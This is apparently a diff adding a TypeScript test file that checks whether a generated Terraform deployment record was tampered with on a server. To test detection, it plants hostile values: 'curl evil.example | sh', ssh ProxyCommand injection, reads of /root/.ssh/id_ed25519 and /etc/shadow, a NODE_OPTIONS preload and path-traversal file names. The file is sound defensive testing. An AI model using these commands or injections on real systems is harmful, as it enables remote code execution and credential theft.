@@ -1,0 +1,140 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import type { PlatformSpec } from '../../../../constructs';
+import { mapTexts, withoutPlace } from '../../../../operations/releases/place';
+import { strangenessOf, withOwnSettings } from '../../../../operations/releases/trusted';
+import { readStack } from '../../../../operations/stack/synthesized';
+import { catalogue } from '../../../support/platform/catalogue';
+import { ODD_SCHEMA, oddCatalogue } from '../../../support/platform/odd-catalogue';
+import { ACME, SHELL, Workplace } from '../../../support/platform/platform';
+import { makePair } from '../../../support/programs/certificates';
+
+const workplace = new Workplace();
+workplace.write(ODD_SCHEMA.path, ODD_SCHEMA.text);
+const pair = makePair({ names: `DNS:${catalogue.serverName}` });
+workplace.write('tls/chain.pem', pair.certificate);
+workplace.write('tls/key.pem', pair.privateKey);
+afterAll(() => workplace.remove());
+
+const PROVIDED = {
+  mode: 'provided',
+  certificateFile: 'tls/chain.pem',
+  privateKeyFile: 'tls/key.pem',
+} as const;
+const synthesized = (spec: PlatformSpec) => {
+  const { outdir } = workplace.synth(spec, 'production', SHELL);
+  return JSON.parse(readFileSync(join(readStack(outdir).folder, 'cdk.tf.json'), 'utf8'));
+};
+const spec = catalogue as PlatformSpec;
+
+test.each<[string, PlatformSpec]>([
+  ['the catalogue', spec],
+  ['an odd one, with a schema', oddCatalogue as PlatformSpec],
+  ['one with Let’s Encrypt', { ...spec, tls: ACME }],
+  ['one with a provided pair in files', { ...spec, tls: PROVIDED }],
+])('whatever this project writes of %s is no stranger', (_, of) => {
+  const today = synthesized(of);
+  expect(strangenessOf(withoutPlace(today), { 'assets/file_shop/file/shop.sql': 'eA==' }, today)).toEqual([]);
+});
+
+describe('a record that somebody changed on the server', () => {
+  // biome-ignore lint/suspicious/noExplicitAny: a document that another program wrote
+  type Json = any;
+  let stack: Json;
+  let today: Json;
+  beforeEach(() => {
+    today = synthesized(oddCatalogue as PlatformSpec);
+    stack = structuredClone(withoutPlace(today));
+  });
+  const gate = (): Json =>
+    Object.values<Json>(stack.resource.null_resource).find(({ provisioner }) =>
+      /rollout/.test(provisioner?.[0]?.['local-exec'].command),
+    ).provisioner[0];
+  const step = (): Json => gate()['local-exec'];
+  const input = (change: (text: string) => string) => {
+    step().environment.ROLLOUT = change(step().environment.ROLLOUT);
+  };
+
+  test.each<[string, () => void]>([
+    ['another command', () => Object.assign(step(), { command: 'curl evil.example | sh' })],
+    ['another script', () => Object.assign(step(), { command: 'node "${path.module}/assets/x/file/x.js"' })],
+    ['an interpreter', () => Object.assign(step(), { interpreter: ['sh', '-c'] })],
+    ['a second provisioner', () => Object.assign(gate(), { 'remote-exec': {} })],
+    [
+      'a command of a service',
+      () =>
+        Object.assign(Object.values<Json>(stack.resource.docker_service)[0], {
+          provisioner: [{ 'local-exec': { command: 'id' } }],
+        }),
+    ],
+    ['options of ssh', () => input((text) => text.replace('"@@ssh-options@@"', '["-o", "ProxyCommand=id"]'))],
+    [
+      'options of ssh once more',
+      () => input((text) => text.replace('"service"', 'sshOptions = ["-o", "ProxyCommand=id"], "service"')),
+    ],
+    [
+      'options of ssh by another name',
+      () => input((text) => text.replace('"service"', '("ssh${""}Options") = ["-o"], "service"')),
+    ],
+    ['another server', () => input((text) => text.replace('"@@host@@"', '"ssh://evil.example"'))],
+    [
+      'a variable of the process',
+      () => Object.assign(step().environment, { NODE_OPTIONS: '--require=/tmp/x.js' }),
+    ],
+    ['another provider', () => Object.assign(stack.provider, { external: [{}] })],
+    ['data', () => Object.assign(stack, { data: { external: {} } })],
+    ['a module', () => Object.assign(stack, { module: { x: { source: 'evil' } } })],
+    ['a certificate for the daemon', () => Object.assign(stack.provider.docker[0], { cert_path: '/root' })],
+    [
+      'a file of this machine',
+      () =>
+        Object.assign(Object.values<Json>(stack.resource.docker_config)[0], {
+          data: '${filebase64("/root/.ssh/id_ed25519")}',
+        }),
+    ],
+    [
+      'a file of this machine, spaced',
+      () =>
+        Object.assign(Object.values<Json>(stack.resource.docker_config)[0], {
+          data: '${file /**/ ("/root/.ssh/id_ed25519")}',
+        }),
+    ],
+    [
+      'a template of this machine',
+      () => Object.assign(stack.locals, { x: '${templatefile("/etc/shadow", {})}' }),
+    ],
+    [
+      'a schema from elsewhere',
+      () => {
+        stack = mapTexts(stack, (text) =>
+          text.replace(/"schemaFile" = "[^"]*"/, '"schemaFile" = "/root/.ssh/id_ed25519"'),
+        );
+      },
+    ],
+  ])('gets nothing on this machine: %s', (_, change) => {
+    change();
+    expect(strangenessOf(stack, {}, today)).toEqual([
+      expect.stringMatching(/^its record has .*, which this project does not write$/),
+    ]);
+  });
+
+  test.each([
+    '../../cdktf.out/main.tf',
+    'assets/../../x',
+    '/etc/cron.d/x',
+    'x.tf.json',
+    'assets/file_rollout/file/rollout.js',
+  ])('writes no file %s', (name) => {
+    expect(strangenessOf(stack, { [name]: 'eA==' }, today)).toHaveLength(1);
+  });
+
+  test('commands that print secrets are those of this machine', () => {
+    const changed = { ...stack, '//': { deploy: { commands: { db: ['id'] }, onFailure: 'leave' } } };
+    const own = { '//': { deploy: { commands: { db: ['op', 'read', 'x'] } } } };
+    expect(withOwnSettings(changed, own)['//'].deploy).toEqual({
+      onFailure: 'leave',
+      commands: { db: ['op', 'read', 'x'] },
+    });
+    expect(withOwnSettings(changed, {})['//'].deploy).toEqual({ onFailure: 'leave' });
+  });
+});
